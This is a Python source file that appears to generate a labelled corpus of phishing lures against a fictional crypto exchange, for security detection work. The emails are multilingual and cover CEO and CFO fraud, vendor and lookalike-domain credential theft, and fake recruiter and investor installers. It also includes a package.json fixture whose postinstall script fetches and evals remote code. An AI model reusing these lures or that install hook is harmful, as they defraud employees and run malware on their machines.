"""Set K lures, hand-written. Every one is something a security analyst would flag."""

from __future__ import annotations

from attachments_c import mac_app_zip, msi, svg_smuggling, xar_pkg
from attachments_d import applescript, chm, jscript, vbs
from binaries import (
                    hta,
                    html_smuggling,
                    iso_image,
                    lnk,
                    pe_stub,
                    seven_zip,
                    word_document,
                    zip_archive,
)
from people import (
                    CEO,
                    CFO,
                    HADDAD,
                    ITO_JA,
                    KEIRI,
                    LAURENT,
                    LI,
                    PARK,
                    SUZUKI,
                    SUZUKI_JA,
                    TAKAHASHI,
                    TANAKA,
                    TANAKA_JA,
                    TREASURY,
)
from spec import Att, Mail
from threads_k import (
                    CHEONGUN_FAKE,
                    CHEONGUN_MID,
                    CORBELLE_FAKE,
                    HONGSHENG_FAKE,
                    HONGSHENG_MID,
                    MINATO_FAKE,
                    MINATO_MID,
                    QUILL_FAKE,
                    QUILL_MID,
                    RIMAL_FAKE,
)

L = "lure"

EXEC = [
    Mail(L, "exec-impersonation", "ja",
         "CEO's Japanese name and title on Gmail orders 95 BTC to a 'settlement' address before legal hears of it",
         ("佐藤 陽翔（代表取締役CEO）", "haruto.sato.kitsune@gmail.com"), (TANAKA_JA,),
         "【至急・他言無用】和解金の送付について",
         """田中さん

佐藤です。移動中のため個人アドレスから失礼します。

以前取引のあったマーケットメイカーとの紛争について、本日午後に和解がまとまりました。
条件の一つとして、本日17時（日本時間）までに下記アドレスへ 95 BTC を送付する必要があります。
期限を過ぎると和解が白紙になり、訴訟が公になってしまいます。

送付先: bc1q7k3rz0l5wq9f6y2d8x4n0mv3h5tj2ae9cu6s4p

公表まで法務・コンプラには伏せておいてください（情報管理の観点で、私から直接話します）。
稟議とコールドウォレットの承認は明日以降に私が遡って処理します。
送付したらTXIDだけこのアドレスに返信ください。電話には出られません。

佐藤""",
         "2026-11-03 15:42 +0900"),
    Mail(L, "exec-impersonation", "en",
         "Romaji CEO with title on a combo domain asks an engineer to disable branch protection and merge a PR tonight",
         ("Sato Haruto, Representative Director", "h.sato@kitsuneex-holdings.com"), (SUZUKI,),
         "Hotfix for withdrawal-service - merge tonight",
         """Kenta,

I need a favour tonight and I need it kept quiet. An outside consultant we retained for the
regulator's review has a fix for the withdrawal-service rate limiter (PR #4127, from the account
"kx-audit-ops"). The FSA wants it live before their visit on Thursday.

Please temporarily switch off branch protection on main for withdrawal-service, merge the PR
without the second review, deploy, and then turn protection back on. Do not open a change ticket;
I will sign it off with the CTO tomorrow morning.

I am in a dinner with the regulator so please just reply here when it is done.

Haruto Sato
Representative Director, CEO
Kitsune Exchange K.K.""",
         "2026-11-04 20:17 +0900"),
    Mail(L, "exec-impersonation", "en",
         "CFO display name on Outlook.com asks treasury to prepay a 'forensic audit' retainer in USDT, skipping the call-back",
         ("Emily Carter | CFO", "emily.carter.cfo@outlook.com"), (TREASURY,),
         "Retainer - forensic review (board confidential)",
         """Hi team,

The board has engaged an external forensic accounting firm ahead of the annual audit. Their
engagement letter requires a retainer before they start on Monday, and they only accept stablecoin
for cross-border retainers.

Please send 64,500 USDT (ERC-20) to the escrow wallet below today:
0x5b8e0C41d2F7a9E3b6C05d1F48a2E7c9D3b1f6A0

This is board confidential, so please do not raise it in the treasury channel or call my office;
I am on my phone only. I will attach the signed engagement letter once it is countersigned.

Thanks,
Emily

Sent from Outlook for iOS""",
         "2026-11-05 10:08 +0000"),
    Mail(L, "exec-impersonation", "ja",
         "CFO's katakana name on a .biz TLD swap asks accounting to change an audit firm's bank account in the ERP",
         ("エミリー・カーター CFO", "emily.carter@kitsune-ex.biz"), (("経理部", "keiri@kitsune-ex.co.jp"),),
         "支払先口座の変更（監査報酬）",
         """経理部 各位

CFOのカーターです。監査法人から振込先口座の変更連絡がありました。
今月支払分の監査報酬から、下記の新しい口座に振り込むようERPの支払先マスタを更新してください。

銀行名: みらい共創銀行　本店営業部
口座: 普通 4418207
名義: カ）ケイエムアドバイザリー

監査法人側の事情で急ぎのため、通常の申請フロー（変更届と電話確認）は今回省略してかまいません。
更新が終わったらこのメールに返信をお願いします。

Emily Carter
CFO""",
         "2026-11-06 11:25 +0900"),
    Mail(L, "exec-impersonation", "en",
         "Spoof of the CEO's own address (DMARC fail, Reply-To elsewhere) asks security to lift the withdrawal allowlist for a client",
         CEO, (TAKAHASHI,),
         "Allowlist exception - Hollins Group",
         """Sho,

Hollins Group is moving their treasury to us today and their ops team cannot wait for the 72-hour
address allowlist window. Please disable the allowlist check on their sub-account for the next
24 hours so they can withdraw to new addresses immediately. I have already agreed this with them.

Don't log it in the security change register yet - I will explain to the risk committee myself.
Reply to me directly, I am travelling.

Haruto""",
         "2026-11-09 08:51 +0900", reply_to="h.sato@kitsune-ex-ceo.com", auth="fail",
         return_path="bounce@mailer-relay.site", helo="mta3.mailer-relay.site"),
    Mail(L, "exec-impersonation", "fr",
         "CEO on free.fr asks the Paris office for the bank signatories' ID scans and the e-banking token",
         ("Haruto Sato - Président", "haruto.sato.kx@free.fr"), (LAURENT,),
         "Demande urgente et confidentielle",
         """Bonjour Camille,

Je suis de passage à Paris et je dois régulariser aujourd'hui même un dossier avec notre banque
française avant une opération confidentielle (merci de n'en parler à personne pour le moment).

Pouvez-vous m'envoyer par retour de mail :
- les scans recto-verso des pièces d'identité des deux signataires du compte ;
- une photo de la clé d'authentification (token) de la banque en ligne, avec son numéro de série ;
- le code d'activation reçu par courrier à la création du compte.

Je n'ai pas accès à ma messagerie habituelle, répondez uniquement à cette adresse.

Cordialement,
Haruto Sato""",
         "2026-11-10 09:14 +0100"),
    Mail(L, "exec-impersonation", "ko",
         "CEO on nate.com asks the Seoul office for the hot-wallet API key for an 'emergency FSC audit'",
         ("사토 하루토 대표", "sato.haruto.ceo@nate.com"), (PARK,),
         "[긴급] 금융위 점검 관련 요청",
         """박대현 님,

사토입니다. 한국 금융위원회에서 오늘 오후 긴급 점검이 들어온다는 연락을 받았습니다.
점검관이 핫월렛 입출금 내역을 직접 조회해야 한다고 하니, 서울 오피스가 쓰는 핫월렛 API 키와
시크릿을 이 메일로 바로 보내 주세요. 출금 권한은 그대로 두셔도 됩니다.

보안팀을 거치면 시간이 걸리니 이번 건은 저에게만 보내 주시고, 다른 분들께는 알리지 마세요.
회의 중이라 전화는 어렵습니다.

사토 하루토""",
         "2026-11-11 13:37 +0900"),
    Mail(L, "exec-impersonation", "zh",
         "CFO on yeah.net asks the HK desk to pay a 'licence law firm' HKD 2.4m to a personal account",
         ("Emily Carter 首席财务官", "emilycarter_cfo@yeah.net"), (LI,),
         "香港牌照申请费用 - 请今天处理",
         """李伟你好，

我们在香港的虚拟资产交易平台牌照申请进入最后阶段，律师事务所要求今天之内支付第二期费用，
否则会影响证监会的审核排期。

请从香港公司账户汇款 HKD 2,400,000 到以下账户：
收款人：WONG KA MING
银行：南洋商业银行  账号：043-591-22718-6
备注：legal fee

这件事董事会还没公开，请不要抄送其他人，也不要走审批系统，我回东京后会补签。
汇款后把水单拍照发给我。

Emily""",
         "2026-11-12 16:02 +0800"),
    Mail(L, "exec-impersonation", "ar",
         "CEO on hotmail.com asks the Dubai office for the bank's soft-token activation code",
         ("هاروتو ساتو - الرئيس التنفيذي", "haruto.sato.office@hotmail.com"), (HADDAD,),
         "طلب عاجل بخصوص الحساب البنكي في دبي",
         """مرحباً عمر،

أنا في اجتماع مع البنك الآن ونحتاج إلى تفعيل الرمز الإلكتروني للحساب على هاتفي الجديد قبل نهاية اليوم.
أرجو أن ترسل لي رمز التفعيل المكوّن من ست خانات الذي سيصلك من البنك خلال دقائق، إضافة إلى اسم المستخدم
الخاص بالخدمات المصرفية للشركات.

الموضوع سري في هذه المرحلة، فلا داعي لإبلاغ فريق المالية. لا أستطيع الرد على المكالمات حالياً.

شكراً لك
هاروتو ساتو""",
         "2026-11-13 10:45 +0400"),
]

VENDOR = [
    Mail(L, "vendor-impersonation", "en",
         "Fake Fireblocks 'workspace owner re-attestation' asks for the recovery backup kit and its passphrase",
         ("Fireblocks Trust & Safety", "attestation@fireblocks-attest.com"), (TANAKA,),
         "Action required: annual workspace owner re-attestation (due in 48h)",
         """Dear Workspace Owner,

As part of our SOC 2 Type II controls, Fireblocks requires every workspace owner to re-attest
custody of the workspace recovery material once a year. Your workspace "Kitsune Exchange - Prod"
is due.

To complete the attestation, upload the encrypted key backup kit (the .zip exported during
workspace setup) together with its recovery passphrase at:

https://fireblocks-attest.com/workspace/attest?ws=kitsune-ex-prod

The material is verified in an isolated enclave and deleted after 24 hours. Workspaces that are
not re-attested within 48 hours are placed in read-only mode and pending transfers are held.

Fireblocks Trust & Safety""",
         "2026-11-02 07:30 +0000"),
    Mail(L, "vendor-impersonation", "en",
         "Fake Safe notice pushes a 'Safe Desktop' dmg from a non-Safe domain because the web app is 'under attack'",
         ("Safe{Wallet}", "security@safe-wallet-desktop.app"), (TANAKA,),
         "Safe{Wallet} web interface paused - use Safe Desktop for pending signatures",
         """Hello signer,

Following a DNS incident affecting a third-party provider, we have paused transaction proposals
in the Safe{Wallet} web interface as a precaution. Your Safe accounts and funds are not affected.

Signers who need to confirm queued transactions in the meantime should use Safe Desktop, our
native signing client for macOS:

https://safe-wallet-desktop.app/download/SafeDesktop-1.8.2.dmg

macOS may report that the developer cannot be verified while our new certificate propagates.
Right-click the app and choose Open to continue. Connect your hardware wallet as usual.

The Safe Security Team""",
         "2026-11-04 02:12 +0000",
         html="""<p>Hello signer,</p><p>We have paused transaction proposals in the Safe{Wallet} web interface as a
precaution. Signers can use <a href="https://safe-wallet-desktop.app/download/SafeDesktop-1.8.2.dmg">Safe Desktop for macOS</a>.</p>
<p>If macOS says the developer cannot be verified, right-click the app and choose <b>Open</b>.</p>"""),
    Mail(L, "vendor-impersonation", "en",
         "Fake Jamf notice asks employees to install an 'updated enrollment profile' from a lookalike tenant host",
         ("Jamf Cloud Notifications", "no-reply@jamfcloud-renewal.com"), (SUZUKI,),
         "Your Mac will be removed from management in 24 hours",
         """Hi Kenta,

The device management certificate for kitsune-ex.jamfcloud.com has been rotated. Macs that do not
install the updated enrollment profile within 24 hours will be unmanaged and lose access to
company Wi-Fi, VPN and email.

Install the profile here (takes about one minute):
https://kitsune-ex.jamfcloud-renewal.com/enroll/profile.mobileconfig

When macOS asks, open System Settings > Privacy & Security > Profiles and approve "Kitsune
Device Trust". Enter your Mac login password if prompted.

Jamf Cloud""",
         "2026-11-05 01:40 +0000"),
    Mail(L, "vendor-impersonation", "ja",
         "Fake LINE WORKS admin notice: account 'suspended', re-login on a lookalike domain",
         ("LINE WORKS 管理センター", "admin-notice@lineworks-security.jp"), (ITO_JA,),
         "【LINE WORKS】アカウント利用停止のお知らせ（本人確認のお願い）",
         """伊藤 由紀 様

いつもLINE WORKSをご利用いただきありがとうございます。

お客様のアカウントで、通常と異なる国（ベトナム）からのログインが検知されたため、
安全のためアカウントを一時的に利用停止いたしました。

下記URLよりログインのうえ、本人確認（パスワードと2段階認証コードの再入力）を
本日中にお済ませください。期限を過ぎるとトーク履歴が削除される場合があります。

https://lineworks-security.jp/verify?tenant=kitsune-ex

※本メールは送信専用です。

LINE WORKS 管理センター""",
         "2026-11-06 09:05 +0900"),
    Mail(L, "vendor-impersonation", "ko",
         "Fake Hancom security notice sends an exe 'viewer patch' from a non-Hancom domain and asks to pause antivirus",
         ("한컴 보안센터", "security@hancom-update.kr"), (PARK,),
         "[한컴오피스] 긴급 보안 패치 적용 안내 (HWP 취약점)",
         """고객님 안녕하세요, 한컴 보안센터입니다.

최근 HWP 문서를 열람할 때 악성코드가 실행되는 취약점이 확인되어 긴급 보안 패치를 배포합니다.
기업 고객은 11월 14일까지 아래 패치를 반드시 설치해 주시기 바랍니다.

다운로드: https://hancom-update.kr/patch/HncSecurityPatch_2026_11.exe

설치 중 백신 프로그램이 오탐지할 수 있으므로, 설치 전 실시간 감시를 잠시 꺼 주세요.
설치 후 PC를 다시 시작하면 적용이 완료됩니다.

한글과컴퓨터 보안센터 드림""",
         "2026-11-09 10:20 +0900"),
    Mail(L, "vendor-impersonation", "zh",
         "Fake Ceffu notice asks to re-bind custody API keys (secret included) on a lookalike portal",
         ("Ceffu 客户服务", "service@ceffu-mirror.com"), (LI,),
         "【重要】MirrorX 结算通道升级，请于48小时内重新绑定 API",
         """尊敬的机构客户：

Ceffu 将于本周完成 MirrorX 场外结算通道的升级。为确保结算不中断，请贵司管理员在 48 小时内
登录以下页面，重新绑定交易所 API Key 与 Secret Key，并确认提现白名单。

绑定入口：https://ceffu-mirror.com/institution/rebind

逾期未完成绑定的账户，其在途结算将被暂停，待人工审核后才能恢复。

Ceffu 机构客户服务部""",
         "2026-11-10 14:30 +0800"),
    Mail(L, "vendor-impersonation", "fr",
         "Fake Pennylane notice: bank connection 'expired', re-enter online-banking credentials on a lookalike domain",
         ("Pennylane", "notifications@pennylane-connect.fr"), (LAURENT,),
         "Votre synchronisation bancaire a expiré",
         """Bonjour Camille,

La synchronisation de votre compte bancaire professionnel avec Pennylane a expiré suite à la mise
en place de la nouvelle réglementation DSP2. Vos factures fournisseurs ne sont plus rapprochées
depuis le 8 novembre.

Pour réactiver la synchronisation, reconnectez votre banque en saisissant vos identifiants de
banque en ligne ainsi que le code reçu par SMS :

https://pennylane-connect.fr/banques/reconnexion?id=KX-PAR-0193

Sans action de votre part sous 72 heures, les paiements programmés seront suspendus.

L'équipe Pennylane""",
         "2026-11-11 08:55 +0100"),
    Mail(L, "vendor-impersonation", "ar",
         "Fake Mashreq NEOBiz notice asks to install a token app from a non-bank domain and enter the activation code",
         ("مصرف المشرق - NEOBiz", "neobiz@mashreq-biz-secure.com"), (HADDAD,),
         "تحديث إلزامي لتطبيق الرمز الأمني لحسابات الشركات",
         """عميلنا العزيز،

في إطار تعزيز الأمان، سيتم إيقاف الإصدار الحالي من تطبيق الرمز الأمني لحسابات الشركات بتاريخ 15 نوفمبر.
يرجى تنزيل الإصدار الجديد لنظام ويندوز من الرابط التالي وتسجيل الدخول باسم المستخدم وكلمة المرور ثم إدخال
رمز التفعيل الذي يصلك برسالة نصية:

https://mashreq-biz-secure.com/neobiz/TokenSetup.exe

في حال عدم التحديث قبل الموعد المحدد، سيتم تعليق التحويلات الصادرة من حسابكم.

مع تحيات،
فريق الخدمات المصرفية للشركات""",
         "2026-11-12 09:10 +0400"),
]

LOOKALIKE = [
    Mail(L, "lookalike-link", "ja",
         "HR stock-option exercise notice on kitsune-ex-co-jp.com (dots turned into hyphens) collects SSO password and MFA",
         ("人事部 株式報酬担当", "stock@kitsune-ex-co-jp.com"), (SUZUKI_JA,),
         "【人事部】ストックオプション行使期間のご案内（11/14締切）",
         """社員各位

第3回新株予約権の行使期間が11月14日（金）までとなっております。
行使を希望される方は、下記の株式報酬ポータルに社内SSOアカウントでログインし、
行使株数と払込口座をご登録ください。

https://portal.kitsune-ex-co-jp.com/stock/exercise

ログイン時に多要素認証コードの入力を求められますので、認証アプリをご用意ください。
期限を過ぎると今回の行使はできませんのでご注意ください。

人事部 株式報酬担当""",
         "2026-11-04 10:00 +0900"),
    Mail(L, "lookalike-link", "en",
         "Okta-style 'session expiry' mail from kitsume-ex.com (m for n) links to a credential page on the same lookalike",
         ("Kitsune IT Service Desk", "it-servicedesk@kitsume-ex.com"), (TANAKA,),
         "Your Okta session will expire - re-verify to keep access",
         """Hi Mika,

We are moving all staff to phishing-resistant sign-in. Your current session and enrolled factors
will expire tonight at 23:59 JST.

Re-verify now to keep access to Fireblocks, Slack and the back office:
https://sso.kitsume-ex.com/okta/reverify?user=m.tanaka

You will be asked for your password and a push approval.

Kitsune IT Service Desk""",
         "2026-11-05 17:22 +0900"),
    Mail(L, "lookalike-link", "en",
         "Anchor text shows console.fireblocks.io but links to console.flreblocks.io (l for i) for a 'pending TAP approval'",
         ("Fireblocks", "no-reply@flreblocks.io"), (TANAKA,),
         "1 transaction awaiting your approval (Transaction Authorization Policy)",
         """A transaction in workspace Kitsune Exchange - Prod requires your approval.

Amount: 412.5 ETH
Destination: Whitelisted address "Quillfeather settlement"
Rule: TAP rule 7 (treasury > 250 ETH requires 2 approvers)

Review in the console: https://console.flreblocks.io/v2/transactions/pending

Fireblocks""",
         "2026-11-06 04:18 +0000",
         html="""<p>A transaction in workspace <b>Kitsune Exchange - Prod</b> requires your approval.</p>
<p>Amount: 412.5 ETH<br>Rule: TAP rule 7</p>
<p><a href="https://console.flreblocks.io/v2/transactions/pending">https://console.fireblocks.io/v2/transactions/pending</a></p>"""),
    Mail(L, "lookalike-link", "en",
         "Safe 'signature expiring' mail links to safe-app.global, a lookalike of app.safe.global, to re-connect the signer wallet",
         ("Safe{Wallet} Notifications", "notifications@safe-app.global"), (TANAKA,),
         "Your confirmation on Safe 0x7a3F...c21E expires in 6 hours",
         """Your confirmation for a queued transaction on Safe 0x7a3F...c21E (Ethereum) expires in 6 hours.
After that the transaction has to be re-proposed and all owners must sign again.

Re-connect your signer and confirm:
https://safe-app.global/transactions/queue?safe=eth:0x7a3F91d0B25e6C84a0F3e1bD97c5a8E2b4D0c21E

Safe{Wallet}""",
         "2026-11-07 06:41 +0000"),
    Mail(L, "lookalike-link", "ko",
         "Year-end benefits points mail from kitsune-ex.seoul (new-gTLD swap) asks for the SSO password",
         ("키츠네 서울 경영지원팀", "hr-seoul@kitsune-ex.seoul"), (PARK,),
         "[경영지원] 복지포인트 연말 소멸 예정 안내",
         """서울 오피스 임직원 여러분,

올해 지급된 복지포인트 중 미사용분이 12월 1일에 소멸될 예정입니다.
아래 복지몰에 회사 SSO 계정으로 로그인하시면 잔여 포인트를 확인하고 기한 연장을 신청하실 수 있습니다.

https://welfare.kitsune-ex.seoul/login

문의: 경영지원팀""",
         "2026-11-10 09:30 +0900"),
    Mail(L, "lookalike-link", "zh",
         "HK office 'MPF contribution statement' from kitsune-ex.cn (ccTLD swap) asks for SSO login",
         ("Kitsune 香港人事部", "hr-hk@kitsune-ex.cn"), (LI,),
         "强积金供款结算单已更新，请登录查阅",
         """各位香港同事：

2026年10月的强积金（MPF）供款结算单已上传至员工自助平台。
请于11月20日前使用公司 SSO 帐号登录核对个人供款记录，如有差异须在期限内提出。

登录地址：https://ess.kitsune-ex.cn/mpf/statement

香港人事部""",
         "2026-11-11 11:15 +0800"),
    Mail(L, "lookalike-link", "fr",
         "Paris office expense-policy mail from kitsune-ex.lu (TLD swap) links to a fake SSO page",
         ("Kitsune Exchange - Services généraux", "services-generaux@kitsune-ex.lu"), (LAURENT,),
         "Nouvelle politique de notes de frais - validation requise",
         """Bonjour,

La nouvelle politique de notes de frais du bureau de Paris entre en vigueur le 1er décembre.
Chaque collaborateur doit en prendre connaissance et la valider électroniquement avant le
20 novembre, faute de quoi les remboursements en cours seront suspendus.

Accéder au document (connexion avec votre compte Kitsune) :
https://intranet.kitsune-ex.lu/politique-frais/valider

Les services généraux""",
         "2026-11-12 10:05 +0100"),
    Mail(L, "lookalike-link", "ar",
         "Dubai office shared-drive notice from kitsune-ex-dubai.com asks for the corporate password",
         ("مكتب دبي - تقنية المعلومات", "it@kitsune-ex-dubai.com"), (HADDAD,),
         "تمت مشاركة ملف معك: عقود الشركاء 2027",
         """مرحباً عمر،

تمت مشاركة مجلد "عقود الشركاء 2027" معك من قبل فريق الشؤون القانونية.
للاطلاع على المجلد، يرجى تسجيل الدخول بحساب الشركة وكلمة المرور:

https://drive.kitsune-ex-dubai.com/share/contracts-2027

ستنتهي صلاحية الرابط خلال 48 ساعة.

فريق تقنية المعلومات - مكتب دبي""",
         "2026-11-13 12:30 +0400"),
    Mail(L, "lookalike-link", "en",
         "Cyrillic-i homoglyph of kitsune-ex.com (xn--ktsune-ex-v9h.com) sends a 'pay review' letter behind an SSO page",
         ("People Team", "people@xn--ktsune-ex-v9h.com"), (SUZUKI,),
         "Your 2027 compensation letter is ready",
         """Hi Kenta,

Your 2027 compensation review letter has been published. Please sign in with your company
account to read and acknowledge it before 18 November:

https://people.xn--ktsune-ex-v9h.com/letters/2027

People Team""",
         "2026-11-16 09:00 +0900"),
]

_PKG_JSON = b"""{
  "name": "ledger-reconciler-challenge",
  "version": "1.0.3",
  "private": true,
  "scripts": {
    "postinstall": "node -e \\"require('https').get('https://cdn.orbitlane-labs.dev/t/cfg.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\\"",
    "start": "node src/index.js",
    "test": "jest"
  },
  "dependencies": {"express": "^4.19.2", "ethers": "^6.13.1"}
}
"""

RECRUIT = [
    Mail(L, "recruiter-coding-test", "en",
         "Recruiter for an invented DeFi firm sends a GitHub take-home to npm install and run on the work machine, then Telegram",
         ("Natalie Pryce | Orbitlane Labs", "natalie.pryce@orbitlane-labs.com"), (SUZUKI,),
         "Senior Backend (Rust/Node) - next step for your application",
         """Hi Kenta,

Thanks for your time on the intro call. The next step is a short practical exercise our CTO
designed: a perpetuals matching engine with a small bug in the funding-rate calculation.

Repo: https://github.com/orbitlane-labs/perp-engine-assessment

1. Clone it and run `npm install && npm run dev` (the dev script spins up a local node).
2. Please run it on the machine you normally develop on - our grader checks your environment and
   VMs or containers make it fail.
3. Fix the bug and record a 5-minute Loom.

Most candidates finish in under an hour. Once it runs, ping me on Telegram (@natalie_orbitlane) so
I can book the technical round with our CTO this week.

Best,
Natalie Pryce
Talent Partner, Orbitlane Labs""",
         "2026-11-02 18:40 +0000"),
    Mail(L, "recruiter-coding-test", "ja",
         "Japanese headhunter on Gmail sends a Bitbucket repo to 'uv sync && uv run' on the daily PC, then LINE",
         ("ヘッドハンター 三宅", "miyake.career.partners@gmail.com"), (SUZUKI_JA,),
         "【非公開求人】Web3取引所 テックリード候補のご案内",
         """鈴木 健太 様

突然のご連絡失礼いたします。エグゼクティブサーチの三宅と申します。
シンガポール拠点の暗号資産取引所（社名は選考の進行に合わせて開示いたします）で、
年収2,400万円〜のテックリードを募集しており、鈴木様のご経歴を拝見しご連絡しました。

一次選考は簡単な技術課題です。下記リポジトリを取得し、README の手順どおり

  uv sync && uv run python -m grader

を実行してください。普段お使いのPC（ブラウザやウォレットがあるもの）でご実行いただく必要があり、
仮想環境や会社支給のクラウド環境では採点が正しく動きません。

https://bitbucket.org/sg-hire-desk/exchange-techlead-task

実行後の結果はLINE（ID: miyake_exec）にお送りください。

三宅""",
         "2026-11-05 21:10 +0900"),
    Mail(L, "recruiter-coding-test", "en",
         "vercel.app 'hiring portal' hands out a zip to run with node, then moves the candidate to Discord",
         ("Arjun Venkat", "arjun@tarnbyte.io"), (SUZUKI,),
         "Take-home for the Smart Contract Engineer role",
         """Hey Kenta,

Great chatting yesterday. Our hiring portal has the take-home:
https://tarnbyte-hiring.vercel.app/assessment/kenta-suzuki

Download the project zip from there, unzip it and run `node index.js --init` - it generates your
candidate key and a local test wallet, then opens the challenge. Please don't use a sandbox, the
init step needs your normal browser profile to link your GitHub.

Join our Discord afterwards (invite on the same page) and post your candidate key in #candidates.

Arjun
Engineering Manager, TarnByte""",
         "2026-11-06 23:02 +0000"),
    Mail(L, "recruiter-coding-test", "ko",
         "Korean recruiter sends a 'deno run -A' one-liner from a raw URL as the first test, then KakaoTalk",
         ("리크루터 정서윤", "seoyun.jung.hr@gmail.com"), (PARK,),
         "블록체인 백엔드 포지션 - 1차 과제 안내",
         """박대현 님 안녕하세요,

지난주 연락드렸던 두바이 거래소 백엔드 포지션 건으로 다시 연락드립니다.
1차 과제는 아주 간단합니다. 터미널에서 아래 명령을 그대로 실행하시면 과제 환경이 자동으로 구성됩니다.

  deno run -A https://raw.githubusercontent.com/dxb-chain-hiring/setup/main/start.ts

회사 노트북에서 실행하셔야 평가 도구가 개발 환경을 제대로 인식합니다.
완료되면 카카오톡(ID: sy_recruit)으로 화면 캡처를 보내 주세요.

정서윤 드림""",
         "2026-11-09 19:25 +0900"),
    Mail(L, "recruiter-coding-test", "zh",
         "Chinese recruiter sends a GitHub Go task to 'go run' on the work computer, then WeChat",
         ("猎头 周敏", "zhoumin.hr@163.com"), (LI,),
         "量化交易所 Go 后端岗位 - 技术测试",
         """李伟您好，

我是猎头周敏，上周和您在领英上沟通过新加坡量化交易所的 Go 后端岗位。
技术面试前需要完成一个小测试：

1. git clone https://github.com/sgquant-talent/matching-core-test
2. 在仓库根目录执行 go run ./cmd/bootstrap ，它会下载测试数据并检查您的开发环境
3. 修复 orderbook 包里的并发问题

请在您平时工作的电脑上运行，不要用虚拟机，否则环境检查不通过。
完成后加我微信 zhoumin_talent 发结果截图。

周敏""",
         "2026-11-10 20:40 +0800"),
    Mail(L, "recruiter-coding-test", "fr",
         "French recruiter sends a GitLab test to npm install on the everyday laptop, then WhatsApp",
         ("Julien Ferrand - Talent", "julien.ferrand.talent@gmail.com"), (LAURENT,),
         "Poste Lead Dev Web3 - exercice technique",
         """Bonjour Camille,

Suite à notre échange, voici l'exercice technique demandé par notre client, une plateforme
d'actifs numériques basée à Zurich :

https://gitlab.com/zh-digital-recrutement/exercice-lead-dev

Clonez le dépôt, puis lancez `npm install` et `npm run check`. Le script de vérification doit
tourner sur votre ordinateur habituel (et non dans une machine virtuelle), car il contrôle la
configuration de votre navigateur.

Dès que c'est fait, écrivez-moi sur WhatsApp au +41 76 418 22 90 pour fixer l'entretien.

Julien Ferrand""",
         "2026-11-12 18:15 +0100"),
    Mail(L, "recruiter-coding-test", "ar",
         "Arabic recruiter sends a pip install + python main.py task from a GitHub repo, then Telegram",
         ("خالد المنصوري - توظيف", "khalid.mansouri.jobs@outlook.com"), (HADDAD,),
         "فرصة عمل: مهندس بلوكتشين أول - الاختبار التقني",
         """مرحباً عمر،

شكراً لاهتمامك بوظيفة مهندس بلوكتشين أول لدى عميلنا في أبوظبي. الخطوة التالية اختبار تقني قصير:

git clone https://github.com/adgm-web3-careers/senior-task
pip install -r requirements.txt
python main.py

يجب تشغيل الاختبار على جهازك الذي تستخدمه يومياً لأن البرنامج يتحقق من إعدادات المحفظة في المتصفح.
بعد الانتهاء، تواصل معي على تيليجرام: @khalid_hr_uae

خالد المنصوري""",
         "2026-11-14 11:50 +0400"),
    Mail(L, "recruiter-coding-test", "en",
         "Attached take-home zip whose package.json postinstall fetches and evals remote JavaScript",
         ("Orbitlane Labs Hiring", "hiring@orbitlane-labs.com"), (SUZUKI,),
         "Your coding challenge (ledger reconciler)",
         """Hi Kenta,

Attached is the ledger reconciler challenge. Unzip, run `npm install` and then `npm start`; the
README inside explains the task. Please send your solution back within 72 hours.

Orbitlane Labs Hiring""",
         "2026-11-15 09:12 +0000",
         attachments=(Att("ledger-reconciler-challenge.zip",
                          zip_archive([("ledger-reconciler-challenge/package.json", _PKG_JSON),
                                       ("ledger-reconciler-challenge/README.md",
                                        b"# Ledger reconciler\n\nRun npm install, then npm start.\n"),
                                       ("ledger-reconciler-challenge/src/index.js",
                                        b"console.log('reconciler ready');\n")]),
                          "application/zip"),)),
]

INVESTOR = [
    Mail(L, "investor-meeting-install", "en",
         "Investor's meeting on a Webex lookalike requires a 'Secure Connector' pkg with Gatekeeper override",
         ("Daniel Oakhurst", "d.oakhurst@harlowpeak-capital.com"), (CEO,),
         "Harlow Peak x Kitsune - call tomorrow 10:00 JST",
         """Dear Sato-san,

Thank you for accepting our call about a strategic investment in Kitsune Exchange. Our LPs
require all diligence calls to run through our secured Webex tenant:

https://harlowpeak.webex-meet.pro/join/88412907

Before joining, please install the Webex Secure Connector for macOS from the join page (it
encrypts the session end to end). If macOS blocks it, go to System Settings > Privacy & Security
and click "Open Anyway".

Looking forward to speaking.

Daniel Oakhurst
Partner, Harlow Peak Capital""",
         "2026-11-03 22:05 +0000"),
    Mail(L, "investor-meeting-install", "en",
         "Fake Amazon Chime link on a non-AWS domain asks the CFO to install an 'enterprise plugin' exe",
         ("Rebecca Sloane", "rebecca@tallowmere.vc"), (CFO,),
         "Re: Series C discussion - Chime link",
         """Hi Emily,

Our compliance team only allows recorded calls on Amazon Chime. Here is the link for Thursday:
https://chime-aws.meeting-room.io/r/TALLOW-KX-1119

The browser version does not support our recording, so please install the Chime Enterprise
plugin from that page (ChimeEnterpriseSetup.exe) a few minutes before. If SmartScreen shows a
warning, click More info > Run anyway.

Best,
Rebecca Sloane
Principal, Tallowmere Ventures""",
         "2026-11-05 16:30 +0000"),
    Mail(L, "investor-meeting-install", "ja",
         "Japanese VC's own 'meeting app' dmg with right-click open for a diligence call",
         ("朝凪キャピタル 投資部 三好", "miyoshi@asanagi-cap.jp"), (CEO,),
         "出資検討のお打ち合わせについて（専用アプリのご案内）",
         """佐藤 陽翔 様

朝凪キャピタルの三好でございます。先日はお時間をいただきありがとうございました。
来週のデューデリジェンス面談は、情報管理の観点から弊社専用のオンライン会議アプリ
「KumoMeet」にて実施させていただいております。

ダウンロード: https://kumomeet.jp/download/KumoMeet-3.2.dmg

インストール後、初回起動時に「開発元を確認できません」と表示された場合は、
アプリを右クリックして「開く」を選択してください。ログインIDは別途お送りします。

何卒よろしくお願い申し上げます。
三好""",
         "2026-11-06 13:45 +0900"),
    Mail(L, "investor-meeting-install", "ko",
         "Korean investor's call needs a 'Whale On security plugin' exe from a non-Naver domain",
         ("다원벤처스 이도윤 이사", "doyun.lee@dawon-vc.kr"), (PARK,),
         "투자 미팅 접속 안내 (웨일온)",
         """박대현 님,

내일 오후 3시 투자 미팅은 웨일온으로 진행합니다. 저희 펀드 규정상 보안 플러그인이 설치된
PC에서만 접속할 수 있습니다.

1) https://whaleon-meet.com/plugin/WhaleOnSecure_Setup.exe 설치
2) 설치 후 PC 재부팅
3) 미팅 링크 접속: https://whaleon-meet.com/room/HGV-2611

백신이 설치를 막으면 잠시 꺼 두셔도 됩니다.

이도윤 드림""",
         "2026-11-10 17:10 +0900"),
    Mail(L, "investor-meeting-install", "zh",
         "Chinese fund's meeting on a fake WeLink domain needs a client exe",
